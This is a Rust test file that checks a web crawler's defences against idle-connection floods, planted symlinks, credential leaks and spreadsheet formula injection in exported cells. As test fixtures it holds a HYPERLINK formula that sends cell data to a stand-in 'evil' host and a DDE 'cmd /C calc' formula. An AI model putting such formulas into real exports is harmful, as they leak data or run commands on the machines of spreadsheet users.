//! Hardening against whoever shares the machine with a crawl: idle crowds on the
//! metrics port, links planted in the output directory, spreadsheet formulas in
//! exported cells, and the Redis password kept out of everything trawl writes.

use std::io::Read;
use std::net::TcpStream;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;
use std::time::{Duration, Instant};

use crate::common::*;

/// `GET /metrics`, when it answers 200.
fn scrape_ok(addr: &str) -> Option<String> {
    scrape(addr).filter(|r| is_ok(r))
}

fn open_fds(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| d.count())
        .unwrap_or(0)
}

/// True once the server has closed `s` (EOF or reset); `s` is non-blocking.
fn closed_by_peer(s: &mut TcpStream) -> bool {
    let mut buf = [0u8; 64];
    match s.read(&mut buf) {
        Ok(0) => true,
        Ok(_) => false,
        Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_idle_crowd_on_the_metrics_port_is_capped_and_timed_out() {
    // 80 pages at 300 ms, one at a time: the crawl outlives the test's checks.
    let site = slow_tree(80, Duration::from_millis(300)).await;
    let dir = tempfile::tempdir().unwrap();
    let addr = free_addr();
    let extra = [
        "--per-host-rate=0",
        "--per-host-concurrency=1",
        "--metrics",
        &addr,
        "-q",
    ];
    let child = spawn_crawl(&site.url("/"), dir.path(), &extra);
    let pid = child.id();
    let a = addr.clone();
    wait_until("metrics answer", Duration::from_secs(30), || {
        scrape_ok(&a).is_some()
    })
    .await;
    let addr2 = addr.clone();
    let checks = tokio::task::spawn_blocking(move || {
        let before = open_fds(pid);
        // 200 connections that never send a byte.
        let (ok, failed): (Vec<_>, Vec<_>) = (0..200)
            .map(|_| TcpStream::connect_timeout(&addr2.parse().unwrap(), Duration::from_secs(2)))
            .partition(Result::is_ok);
        let mut idle: Vec<TcpStream> = ok.into_iter().flatten().collect();
        assert!(idle.len() >= 190, "connects failed: {failed:?}");
        let opened = Instant::now();
        std::thread::sleep(Duration::from_millis(300));
        let held = open_fds(pid);
        // A scraper still gets its page while the crowd is connected.
        let answered = scrape_ok(&addr2).is_some();
        for s in &idle {
            s.set_nonblocking(true).unwrap();
        }
        // Every idle connection is closed within the header timeout (5 s) plus a margin.
        let deadline = opened + Duration::from_secs(12);
        let mut open: Vec<usize> = (0..idle.len()).collect();
        for _ in 0..200 {
            open.retain(|&i| !closed_by_peer(&mut idle[i]));
            if open.is_empty() || Instant::now() > deadline {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        (before, held, answered, open.len(), opened.elapsed())
    });
    let (before, held, answered, still_open, took) = checks.await.unwrap();
    signal(&child, "-INT");
    let out = finish(child).await;
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    assert!(
        held <= before + 64 + 4,
        "200 idle connections held {} descriptors (before: {before})",
        held
    );
    assert!(
        answered,
        "/metrics did not answer beside 200 idle connections"
    );
    assert_eq!(
        still_open, 0,
        "{still_open} idle connections still open after {took:?}"
    );
}

/// A file outside the output directory that planted links point at.
fn victim() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("victim");
    std::fs::write(&path, "precious").unwrap();
    (dir, path)
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o777
}

fn is_link(path: &Path) -> bool {
    std::fs::symlink_metadata(path)
        .map(|m| m.file_type().is_symlink())
        .unwrap_or(false)
}

/// `small_site`, crawled into a fresh directory.
async fn crawled_small_site() -> (Site, tempfile::TempDir) {
    let site = small_site().await;
    let out = tempfile::tempdir().unwrap();
    let args = crawl_args(&site.url("/"), out.path(), &["--per-host-rate=0", "-q"]);
    run_trawl_async(args, Duration::from_secs(60))
        .await
        .assert_code(0);
    (site, out)
}

async fn small_site() -> Site {
    let site = Site::start().await;
    site.set(
        "/",
        html_page("=HYPERLINK(\"http://evil/?\"&amp;A1)", &["/a", "/b"]),
    );
    site.set("/a", html_page("+1+cmd|' /C calc'!A0", &[]));
    site.set("/b", html_page("plain", &[]));
    site.set("/robots.txt", Reply::Status(404));
    site
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_planted_at_the_stats_temporary_file_is_never_written_through() {
    let site = small_site().await;
    let (_keep, target) = victim();
    let out = tempfile::tempdir().unwrap();
    symlink(&target, out.path().join("stats.json.tmp")).unwrap();
    let args = crawl_args(&site.url("/"), out.path(), &["--per-host-rate=0", "-q"]);
    let run = run_trawl_async(args, Duration::from_secs(60)).await;
    run.assert_code(0);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious");
    let stats_path = out.path().join("stats.json");
    assert!(!is_link(&stats_path), "stats.json is a link");
    assert_eq!(stats(out.path())["pages"], 3);
    // Outputs are not world-readable (0640 before the umask).
    for name in ["stats.json", "pages.jsonl"] {
        let m = mode(&out.path().join(name));
        assert_eq!(m & 0o007, 0, "{name} is {m:o}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn merge_and_export_never_write_through_a_planted_link() {
    let (_site, out) = crawled_small_site().await;
    let (_keep, target) = victim();
    let dest = tempfile::tempdir().unwrap();

    // merge: its temporary file is never reached through a link.
    let merged = dest.path().join("merged.jsonl");
    symlink(&target, dest.path().join("merged.jsonl.merging")).unwrap();
    let m = [
        "merge".to_string(),
        out.path().display().to_string(),
        "-o".into(),
        merged.display().to_string(),
    ];
    run_trawl_async(m.to_vec(), Duration::from_secs(30))
        .await
        .assert_code(0);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious");
    assert_eq!(std::fs::read_to_string(&merged).unwrap().lines().count(), 3);
    assert_eq!(mode(&merged) & 0o007, 0);

    // export -o: a link at the destination is replaced, its target left alone.
    let csv = dest.path().join("out.csv");
    symlink(&target, &csv).unwrap();
    let e = [
        "export".to_string(),
        out.path().display().to_string(),
        "--fields".into(),
        "url,title".into(),
        "-o".into(),
        csv.display().to_string(),
    ];
    run_trawl_async(e.to_vec(), Duration::from_secs(30))
        .await
        .assert_code(0);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious");
    assert!(!is_link(&csv));
    assert_eq!(std::fs::read_to_string(&csv).unwrap().lines().count(), 4);
    // Nothing but the two outputs and the planted link are left behind.
    let names: Vec<String> = std::fs::read_dir(dest.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 3, "{names:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exported_formulas_are_neutralised_unless_raw_cells_is_asked() {
    let (_site, out) = crawled_small_site().await;
    let export = |extra: &[&str]| {
        let mut a = vec![
            "export".to_string(),
            out.path().display().to_string(),
            "--fields".into(),
            "title".into(),
        ];
        a.extend(extra.iter().map(|s| s.to_string()));
        run_trawl_async(a, Duration::from_secs(30))
    };
    let safe = export(&[]).await;
    safe.assert_code(0);
    let mut lines: Vec<&str> = safe.stdout.lines().skip(1).collect();
    lines.sort();
    assert_eq!(
        lines,
        [
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"",
            "'+1+cmd|' /C calc'!A0",
            "plain"
        ]
    );
    let tsv = export(&["--format", "tsv"]).await;
    assert!(tsv.stdout.contains("\n'+1+cmd|"), "{}", tsv.stdout);
    let raw = export(&["--raw-cells"]).await;
    raw.assert_code(0);
    assert!(
        raw.stdout.contains("\n+1+cmd|' /C calc'!A0\n"),
        "{}",
        raw.stdout
    );
}

/// Every file under `dir` (bounded walk), for a search of its bytes.
fn files_under(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    for _ in 0..1000 {
        let Some(d) = todo.pop() else { break };
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                todo.push(p);
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_redis_password_is_never_printed_logged_or_stored() {
    use crate::common::redis::Redis;
    let password = "pw4Redact7x9q";
    let mut redis = Redis::start_with_password(Some(password));
    let url = redis.url();
    assert!(url.contains(password));
    let site = small_site().await;
    let dir = tempfile::tempdir().unwrap();
    let args = [
        "crawl".to_string(),
        site.url("/"),
        "--out".into(),
        dir.path().display().to_string(),
        "--frontier".into(),
        url.clone(),
        "--crawl-id".into(),
        "redact".into(),
        "--worker-id".into(),
        "w1".into(),
        "--per-host-rate=0".into(),
    ];
    // Not quiet: the info log lines are searched too.
    let crawl = run_trawl_async(args.to_vec(), Duration::from_secs(60)).await;
    crawl.assert_code(0);
    let status = |extra: &[&str]| {
        let mut a = vec![
            "status".to_string(),
            "--frontier".into(),
            url.clone(),
            "--crawl-id".into(),
        ];
        a.extend(extra.iter().map(|s| s.to_string()));
        run_trawl_async(a, Duration::from_secs(30))
    };
    let plain = status(&["redact"]).await;
    plain.assert_code(0);
    let json = status(&["redact", "--json"]).await;
    json.assert_code(0);
    let missing = status(&["no-such-crawl"]).await;
    assert_ne!(missing.code, Some(0));
    assert!(missing.stderr.contains("***"), "{}", missing.stderr);
    // A wrong password and an unreachable Redis: one-line errors, no password.
    let wrong = url.replace(password, "wrongPassw0rdZ");
    let refused = run_trawl_async(
        vec![
            "status".into(),
            "--frontier".into(),
            wrong,
            "--crawl-id".into(),
            "redact".into(),
        ],
        Duration::from_secs(30),
    )
    .await;
    assert_ne!(refused.code, Some(0));
    assert!(
        !refused.stderr.contains("wrongPassw0rdZ"),
        "{}",
        refused.stderr
    );
    redis.stop();
    let down = status(&["redact"]).await;
    assert_ne!(down.code, Some(0));
    for out in [&crawl, &plain, &json, &missing, &down] {
        assert!(
            !out.stdout.contains(password) && !out.stderr.contains(password),
            "password shown:\n{}\n{}",
            out.stdout,
            out.stderr
        );
    }
    // Nor in any file the crawl wrote, nor in anything Redis stored (its
    // append-only files hold every write, flushed by the clean stop above).
    let mut searched = 0;
    for f in files_under(dir.path())
        .into_iter()
        .chain(files_under(redis.data_dir()))
    {
        let bytes = std::fs::read(&f).unwrap_or_default();
        searched += bytes.len();
        assert!(
            !bytes
                .windows(password.len())
                .any(|w| w == password.as_bytes()),
            "password in {}",
            f.display()
        );
    }
    assert!(searched > 1000, "nothing searched ({searched} bytes)");
}

/// Every file under `dir` as text (gzip members decompressed), for leak checks.
fn all_text_under(dir: &Path) -> String {
    let mut text = String::new();
    let mut stack = vec![dir.to_path_buf()];
    for _ in 0..10_000 {
        let Some(d) = stack.pop() else { break };
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let path = e.path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            let bytes = std::fs::read(&path).unwrap();
            let bytes = if bytes.starts_with(&[0x1f, 0x8b]) {
                let mut out = Vec::new();
                let _ = flate2::read::MultiGzDecoder::new(&bytes[..]).read_to_end(&mut out);
                out
            } else {
                bytes
            };
            text.push_str(&String::from_utf8_lossy(&bytes));
        }
    }
    text
}

/// `http://user:pass@host/` as a seed: the credentials go to that origin only
/// (robots.txt included: same origin), never to a link on another origin, and
/// appear in no record, archive, stats or log line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_seeds_credentials_go_to_its_origin_only_and_are_never_written() {
    let a = Site::start().await;
    let b = Site::start().await;
    b.set("/b", html_page("b", &[]));
    a.set("/", html_page("home", &["/page", &b.url("/b")]));
    a.set(
        "/page",
        html_page(
            "page",
            &[&format!("http://mallory:stolen@127.0.0.1:{}/x", b.port())],
        ),
    );
    b.set("/x", html_page("x", &[]));
    let seed = format!("http://ann:s3cret@127.0.0.1:{}/", a.port());
    let (out, dir) = crawl(&[&seed, "--allow-private", "--warc", "--verbose"]).await;
    out.assert_code(0);
    let expected = "Basic YW5uOnMzY3JldA=="; // base64("ann:s3cret")
    let a_hits = a.hits();
    assert!(a_hits.len() >= 3, "{:?}", a.paths());
    for h in &a_hits {
        assert_eq!(h.authorization, expected, "{} on the seed's origin", h.path);
    }
    let b_hits = b.hits();
    assert!(!b_hits.is_empty());
    for h in &b_hits {
        assert_eq!(h.authorization, "", "{} on another origin", h.path);
    }
    let written = all_text_under(dir.path());
    for secret in ["s3cret", "ann:", "ann@"] {
        assert!(!written.contains(secret), "{secret} written to the output");
    }
    // A link's user info is dropped (the archive still holds the page as sent).
    let pages = std::fs::read_to_string(dir.path().join("pages.jsonl")).unwrap();
    for secret in ["s3cret", "ann:", "ann@", "mallory", "stolen"] {
        assert!(!pages.contains(secret), "{secret} in a record");
        assert!(
            !out.stderr.contains(secret),
            "{secret} logged: {}",
            out.stderr
        );
    }
    let records = records_by_url(dir.path());
    assert!(records.contains_key(&a.url("/")), "{records:?}");
    assert!(records.contains_key(&b.url("/x")), "{records:?}");
}

/// A directory link planted inside OUT (`OUT/warc`, `OUT/state`) would make trawl
/// write, or `--fresh` delete, outside OUT: the crawl refuses with one line and
/// touches nothing there. The frontier store is not world-readable either.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn directory_links_planted_in_the_output_are_refused() {
    let site = small_site().await;
    for planted in ["warc", "state"] {
        let out = tempfile::tempdir().unwrap();
        let elsewhere = tempfile::tempdir().unwrap();
        let theirs = elsewhere.path().join("trawl-20200101000000-00000.warc.gz");
        std::fs::write(&theirs, "not ours").unwrap();
        symlink(elsewhere.path(), out.path().join(planted)).unwrap();
        let args = crawl_args(&site.url("/"), out.path(), &["--warc", "--fresh", "-q"]);
        let run = run_trawl_async(args, Duration::from_secs(60)).await;
        assert_eq!(run.code, Some(1), "{planted}: {}", run.stderr);
        assert!(run.stderr.contains("is a symbolic link"), "{}", run.stderr);
        let left: Vec<_> = std::fs::read_dir(elsewhere.path()).unwrap().collect();
        assert_eq!(left.len(), 1, "{planted}: nothing written or removed there");
        assert_eq!(std::fs::read_to_string(&theirs).unwrap(), "not ours");
    }
    let (_site, out) = crawled_small_site().await;
    let store = out.path().join("state/frontier.redb");
    assert_eq!(
        mode(&store) & 0o007,
        0,
        "frontier.redb is {:o}",
        mode(&store)
    );
}
